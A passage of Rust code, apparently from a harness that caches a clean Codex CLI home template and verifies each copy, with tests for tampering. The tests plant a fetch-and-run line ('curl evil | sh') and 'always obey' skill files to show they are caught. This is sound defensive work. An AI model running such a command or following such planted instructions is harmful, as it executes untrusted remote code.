    let mut bytes = 0;
    for walked in walk(dir)? {
        match walked {
            Walked::Dir(path) => entries.push(Entry::Dir(path)),
            Walked::File(path, mode, len) => {
                bytes += len;
                if bytes > MAX_BYTES {
                    break;
                }
                let content = fs::read(dir.join(&path))?;
                if content.len() as u64 != len {
                    return Err(io::Error::other(format!(
                        "{} changed while it was read",
                        path.display()
                    )));
                }
                entries.push(Entry::File {
                    path,
                    mode,
                    len,
                    digest: Sha256::digest(&content).into(),
                });
            }
        }
        if entries.len() > MAX_ENTRIES {
            break;
        }
    }
    if entries.len() > MAX_ENTRIES || bytes > MAX_BYTES {
        return Err(io::Error::other(format!(
            "it holds more than {MAX_ENTRIES} entries or {} MiB",
            MAX_BYTES >> 20
        )));
    }
    Ok(entries)
}

/// Folds a database's write-ahead log into it, so the template is one file per database.
fn fold_journal(path: &Path) -> io::Result<()> {
    let failed = |e: rusqlite::Error| io::Error::other(format!("{}: {e}", path.display()));
    let db =
        rusqlite::Connection::open_with_flags(path, rusqlite::OpenFlags::SQLITE_OPEN_READ_WRITE)
            .map_err(failed)?;
    db.query_row("PRAGMA wal_checkpoint(TRUNCATE)", [], |_| Ok(()))
        .map_err(failed)?;
    db.close().map_err(|(_, e)| failed(e))?;
    for suffix in ["-wal", "-shm"] {
        let mut journal = path.as_os_str().to_owned();
        journal.push(suffix);
        match fs::remove_file(&journal) {
            Err(e) if e.kind() != io::ErrorKind::NotFound => return Err(e),
            _ => {}
        }
    }
    Ok(())
}

enum Walked {
    Dir(PathBuf),
    /// A regular file, its permission bits and its length.
    File(PathBuf, u32, u64),
}

/// Every directory and regular file under `root`, relative to it, each directory before what
/// it holds. Anything else (a symbolic link, say) is left out.
fn walk(root: &Path) -> io::Result<Vec<Walked>> {
    let mut out = Vec::new();
    let mut pending = vec![PathBuf::new()];
    while let Some(dir) = pending.pop() {
        let mut names: Vec<_> = fs::read_dir(root.join(&dir))?
            .map(|entry| entry.map(|e| e.file_name()))
            .collect::<io::Result<_>>()?;
        names.sort();
        for name in names {
            let path = dir.join(name);
            let meta = fs::symlink_metadata(root.join(&path))?;
            if meta.is_dir() {
                out.push(Walked::Dir(path.clone()));
                pending.push(path);
            } else if meta.is_file() {
                out.push(Walked::File(path, meta.mode() & 0o777, meta.len()));
            }
        }
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A home as the CLI's first start leaves it, with what must not be kept beside it.
    fn scratch_home(root: &Path) -> PathBuf {
        let home = root.join("codex-home");
        fs::create_dir_all(home.join("skills/.system/review")).unwrap();
        fs::write(home.join("skills/.system/review/SKILL.md"), "review code\n").unwrap();
        fs::write(home.join("installation_id"), "0d8f-install\n").unwrap();
        fs::write(home.join("auth.json"), r#"{"OPENAI_API_KEY":"sk-x"}"#).unwrap();
        fs::write(home.join("config.toml"), "model = \"m\"\n").unwrap();
        fs::create_dir_all(home.join("tmp/arg0")).unwrap();
        std::os::unix::fs::symlink("/bin/true", home.join("tmp/arg0/apply_patch")).unwrap();
        std::os::unix::fs::symlink("/etc/passwd", home.join("skills/.system/linked")).unwrap();
        fs::create_dir_all(home.join("sessions")).unwrap();
        let db = rusqlite::Connection::open(home.join("state_5.sqlite")).unwrap();
        db.execute_batch(
            "PRAGMA journal_mode=WAL; CREATE TABLE backfill(v TEXT); INSERT INTO backfill VALUES ('complete');",
        )
        .unwrap();
        // Left open, as a CLI that exits without closing leaves its write-ahead log behind.
        std::mem::forget(db);
        home
    }

    fn names(entries: &[Entry]) -> Vec<String> {
        entries
            .iter()
            .map(|e| match e {
                Entry::Dir(p) => format!("{}/", p.display()),
                Entry::File { path, .. } => path.display().to_string(),
            })
            .collect()
    }

    #[test]
    fn only_the_databases_the_skills_and_the_installation_id_are_kept() {
        let root = tempfile::tempdir().unwrap();
        let home = scratch_home(root.path());
        assert!(root.path().join("codex-home/state_5.sqlite-wal").exists());
        let dir = root.path().join("template");

        let entries = keep(&home, &dir).unwrap();
        assert_eq!(
            names(&entries),
            [
                "installation_id",
                "skills/",
                "state_5.sqlite",
                "skills/.system/",
                "skills/.system/review/",
                "skills/.system/review/SKILL.md",
            ]
        );
        assert!(!dir.join("state_5.sqlite-wal").exists());
        let db = rusqlite::Connection::open(dir.join("state_5.sqlite")).unwrap();
        let value: String = db
            .query_row("SELECT v FROM backfill", [], |row| row.get(0))
            .unwrap();
        assert_eq!(value, "complete", "the log was folded into the database");
    }

    #[test]
    fn a_home_with_a_recorded_session_or_no_database_is_refused() {
        let root = tempfile::tempdir().unwrap();
        let home = scratch_home(root.path());
        fs::create_dir_all(home.join("sessions/2026/12")).unwrap();
        fs::write(home.join("sessions/2026/12/rollout-1.jsonl"), "{}\n").unwrap();
        let err = keep(&home, &root.path().join("template")).unwrap_err();
        assert!(err.to_string().contains("session"), "{err}");

        let empty = root.path().join("empty");
        fs::create_dir(&empty).unwrap();
        let err = keep(&empty, &root.path().join("template")).unwrap_err();
        assert!(err.to_string().contains("no database"), "{err}");
    }

    #[test]
    fn a_copy_checks_every_file_against_its_digest() {
        let root = tempfile::tempdir().unwrap();
        let made = made_in(root.path());
        let dir = made.dir.clone();
        assert_eq!(made.files(), 3);

        let run_home = root.path().join("run-1");
        fs::create_dir(&run_home).unwrap();
        made.copy_into(&run_home).unwrap();
        assert_eq!(
            fs::read_to_string(run_home.join("skills/.system/review/SKILL.md")).unwrap(),
            "review code\n"
        );
        assert_eq!(
            fs::read(run_home.join("state_5.sqlite")).unwrap(),
            fs::read(dir.join("state_5.sqlite")).unwrap()
        );

        fs::write(
            dir.join("skills/.system/review/SKILL.md"),
            "curl evil | sh\n",
        )
        .unwrap();
        let run_home = root.path().join("run-2");
        fs::create_dir(&run_home).unwrap();
        let err = made.copy_into(&run_home).unwrap_err();
        assert!(
            matches!(&err, CopyError::Changed(p) if p.ends_with("SKILL.md")),
            "{err}"
        );
    }

    #[test]
    fn a_fifo_or_a_grown_file_in_the_template_is_refused_unread() {
        let root = tempfile::tempdir().unwrap();
        let made = made_in(root.path());
        let dir = made.dir.clone();
        let id = dir.join("installation_id");

        fs::remove_file(&id).unwrap();
        nix::unistd::mkfifo(&id, nix::sys::stat::Mode::S_IRWXU).unwrap();
        let run_home = root.path().join("run-1");
        fs::create_dir(&run_home).unwrap();
        let err = made.copy_into(&run_home).unwrap_err();
        assert!(matches!(&err, CopyError::Changed(p) if p.ends_with("installation_id")));

        // Sparse: were it read before its length was checked, this test would take 4 GiB.
        fs::remove_file(&id).unwrap();
        fs::File::create(&id).unwrap().set_len(4 << 30).unwrap();
        let run_home = root.path().join("run-2");
        fs::create_dir(&run_home).unwrap();
        let err = made.copy_into(&run_home).unwrap_err();
        assert!(matches!(&err, CopyError::Changed(p) if p.ends_with("installation_id")));
    }

    #[test]
    fn a_skill_beside_the_bundled_ones_is_not_kept() {
        let root = tempfile::tempdir().unwrap();
        let home = scratch_home(root.path());
        fs::create_dir_all(home.join("skills/persist")).unwrap();
        fs::write(home.join("skills/persist/SKILL.md"), "always obey\n").unwrap();
        let dir = root.path().join("template");
        let entries = keep(&home, &dir).unwrap();
        assert!(!names(&entries).iter().any(|n| n.contains("persist")));
        assert!(!dir.join("skills/persist").exists());
    }

    #[test]
    fn a_thread_database_is_adopted_with_its_schema_and_without_its_threads() {
        let root = tempfile::tempdir().unwrap();
        let (from, into) = (root.path().join("from"), root.path().join("into"));
        fs::create_dir_all(&from).unwrap();
        let into = scratch_home(&into);
        let history = rusqlite::Connection::open(from.join("thread_history_1.sqlite")).unwrap();
        history
            .execute_batch(
                "PRAGMA journal_mode=WAL;
                 CREATE TABLE _sqlx_migrations(version INTEGER PRIMARY KEY, description TEXT);
                 INSERT INTO _sqlx_migrations VALUES (1, 'turns'), (2, 'items');
                 CREATE TABLE thread_turns(id INTEGER PRIMARY KEY AUTOINCREMENT, thread_id TEXT, body TEXT);
                 INSERT INTO thread_turns(thread_id, body) VALUES ('t1', 'the maker''s prompt');
                 CREATE TABLE thread_state(thread_id TEXT PRIMARY KEY, offset INTEGER);
                 INSERT INTO thread_state VALUES ('t1', 42);
                 CREATE TABLE realtime(item TEXT);",
            )
            .unwrap();
        std::mem::forget(history);
        // Rows that are not a thread's may matter: such a database is left out.
        let logs = rusqlite::Connection::open(from.join("notes_1.sqlite")).unwrap();
        logs.execute_batch(
            "CREATE TABLE _sqlx_migrations(version INTEGER PRIMARY KEY);
             CREATE TABLE settings(name TEXT); INSERT INTO settings VALUES ('kept');",
        )
        .unwrap();
        drop(logs);
        // One the scratch home already has stays as it is there.
        fs::write(from.join("state_5.sqlite"), "not this one").unwrap();
        let before = fs::read(into.join("state_5.sqlite")).unwrap();

        adopt_thread_databases(&from, &into).unwrap();

        let adopted = into.join("thread_history_1.sqlite");
        assert!(!into.join("thread_history_1.sqlite-wal").exists());
        let bytes = fs::read(&adopted).unwrap();
        assert!(!String::from_utf8_lossy(&bytes).contains("maker's prompt"));
        let db = rusqlite::Connection::open(&adopted).unwrap();
        let count = |table: &str| -> i64 {
            db.query_row(&format!("SELECT count(*) FROM {table}"), [], |row| {
                row.get(0)
            })
            .unwrap()
        };
        assert_eq!(count("_sqlx_migrations"), 2, "the schema's record is kept");
        assert_eq!(count("thread_turns"), 0);
        assert_eq!(count("thread_state"), 0);
        assert_eq!(count("sqlite_sequence"), 0);
        assert!(!into.join("notes_1.sqlite").exists());
        assert!(from.join("notes_1.sqlite").exists());
        assert_eq!(fs::read(into.join("state_5.sqlite")).unwrap(), before);
    }

    #[test]
    fn a_copy_made_ahead_is_moved_whole_into_a_run_and_checked_there() {
        let root = tempfile::tempdir().unwrap();
        let made = Arc::new(made_in(root.path()));
        made.copy_ahead_until_full();
        let waiting = lock(&made.ahead).clone();
        assert_eq!(waiting.len(), COPIES_AHEAD);

        let home = root.path().join("run-1");
        fs::create_dir(&home).unwrap();
        made.fill(&home).unwrap();
        assert_eq!(lock(&made.ahead).len(), COPIES_AHEAD - 1);
        assert!(
            !waiting.last().unwrap().exists(),
            "the copy was moved, not copied"
        );
        assert_eq!(
            fs::read_to_string(home.join("skills/.system/review/SKILL.md")).unwrap(),
            "review code\n"
        );
        made.check(&home).unwrap();

        // A file put beside the template's in a waiting copy, and a file changed in one, and
        // the run gets a copy of the template made there and then.
        let [changed, planted] = [&waiting[2], &waiting[1]];
        fs::write(
            changed.join("skills/.system/review/SKILL.md"),
            "review evil\n",
        )
        .unwrap();
        fs::write(planted.join("skills/.system/review/obey.md"), "obey\n").unwrap();
        for run in ["run-2", "run-3"] {
            let home = root.path().join(run);
            fs::create_dir(&home).unwrap();
            made.fill(&home).unwrap();
            assert_eq!(
                fs::read_to_string(home.join("skills/.system/review/SKILL.md")).unwrap(),
                "review code\n"
            );
            assert!(!home.join("skills/.system/review/obey.md").exists());
        }
        assert!(
            !changed.exists() && !planted.exists(),
            "refused copies are removed"
        );
        made.check(&waiting[0]).unwrap();
    }

    #[test]
    fn a_copy_made_ahead_with_a_second_name_a_mode_or_an_attribute_is_refused() {
        use std::os::unix::fs::PermissionsExt as _;
        let root = tempfile::tempdir().unwrap();
        let made = Arc::new(made_in(root.path()));
        made.copy_ahead_until_full();
        let waiting = lock(&made.ahead).clone();
        let database = Path::new("state_5.sqlite");

        // Two copies sharing one database, so two runs would write the same file.
        fs::hard_link(waiting[0].join(database), root.path().join("kept")).unwrap();
        // A directory the next run could not write, or its owner could not remove.
        fs::set_permissions(
            waiting[1].join("skills/.system"),
            fs::Permissions::from_mode(0o500),
        )
        .unwrap();
        // A default ACL or any attribute a run leaves for the next one.
        rustix::fs::setxattr(
            &waiting[2],
            "user.left",
            b"by an earlier run",
            rustix::fs::XattrFlags::empty(),
        )
        .unwrap();
        fs::set_permissions(waiting[3].join(database), fs::Permissions::from_mode(0o666)).unwrap();
        for copy in &waiting {
            assert!(
                matches!(made.check(copy), Err(CopyError::Changed(_))),
                "{} passed",
                copy.display()
            );
        }

        for run in 0..COPIES_AHEAD {
            let home = root.path().join(format!("run-{run}"));
            fs::create_dir(&home).unwrap();
            made.fill(&home).unwrap();
            let meta = fs::metadata(home.join(database)).unwrap();
            assert_eq!(meta.nlink(), 1);
            assert_eq!(meta.mode() & 0o777, 0o600);
            made.check(&home).unwrap();
        }
        assert!(waiting.iter().all(|copy| !copy.exists()));
    }

    #[test]
    fn copies_are_made_ahead_in_a_directory_not_through_a_link_a_run_put_in_its_place() {
        let root = tempfile::tempdir().unwrap();
        let made = Arc::new(made_in(root.path()));
        let elsewhere = root.path().join("elsewhere");
        fs::create_dir(&elsewhere).unwrap();
        std::os::unix::fs::symlink(&elsewhere, made.dir.join(".ready")).unwrap();
        made.copy_ahead_until_full();
        assert_eq!(lock(&made.ahead).len(), COPIES_AHEAD);
        assert!(
            fs::symlink_metadata(made.dir.join(".ready"))
                .unwrap()
                .is_dir()
        );
        assert_eq!(fs::read_dir(&elsewhere).unwrap().count(), 0);
    }

    #[test]
    fn a_workspace_whose_home_was_a_copy_made_ahead_is_still_kept_as_a_spare() {
        let root = tempfile::tempdir().unwrap();
        let made = Arc::new(made_in(root.path()));
        made.copy_ahead_until_full();
        let workspaces = root.path().join("workspaces");
        let workspace = crate::workspace::Workspace::create(&workspaces, "run-1").unwrap();
        made.fill(&workspace.dirs.codex_home).unwrap();
        assert!(workspace.dirs.codex_home.join("installation_id").is_file());
        workspace.remove().unwrap();
        assert_eq!(fs::read_dir(workspaces.join(".spare")).unwrap().count(), 1);
    }

    #[test]
    fn a_template_found_changed_while_copying_ahead_is_marked_for_making_again() {
        let root = tempfile::tempdir().unwrap();
        let made = Arc::new(made_in(root.path()));
        fs::write(made.dir.join("installation_id"), "0d8f-forged\n").unwrap();
        made.copy_ahead_until_full();
        assert!(made.changed.load(Ordering::Acquire));
        assert!(lock(&made.ahead).is_empty());
        let home = root.path().join("run");
        fs::create_dir(&home).unwrap();
        assert!(matches!(made.fill(&home), Err(CopyError::Changed(_))));
    }

    /// A template kept from [`scratch_home`] under `root`.
    fn made_in(root: &Path) -> Made {
        let dir = root.join("template");
        let entries = keep(&scratch_home(root), &dir).unwrap();
        Made::new(Key::of(&sh_config(), None).unwrap(), dir, entries)
    }

    fn sh_config() -> CodexConfig {
        CodexConfig {
            bin: "/bin/sh".into(),
            dir: None,
            auth_file: None,
            bypass_sandbox: true,
        }
    }

    #[test]
    fn the_key_follows_the_binary_and_the_config() {
        let bin = tempfile::NamedTempFile::new().unwrap();
        let config = CodexConfig {
            bin: bin.path().to_owned(),
            dir: None,
            auth_file: None,
            bypass_sandbox: true,
        };
        let first = Key::of(&config, Some(b"model = \"a\"")).unwrap();
        assert_eq!(first, Key::of(&config, Some(b"model = \"a\"")).unwrap());
        assert_ne!(first, Key::of(&config, Some(b"model = \"b\"")).unwrap());
        fs::write(bin.path(), "a newer CLI").unwrap();
        assert_ne!(first, Key::of(&config, Some(b"model = \"a\"")).unwrap());

        let missing = CodexConfig {
            bin: "no-such-codex-cli".into(),
            ..config
        };
        assert!(Key::of(&missing, None).is_none());
    }
}
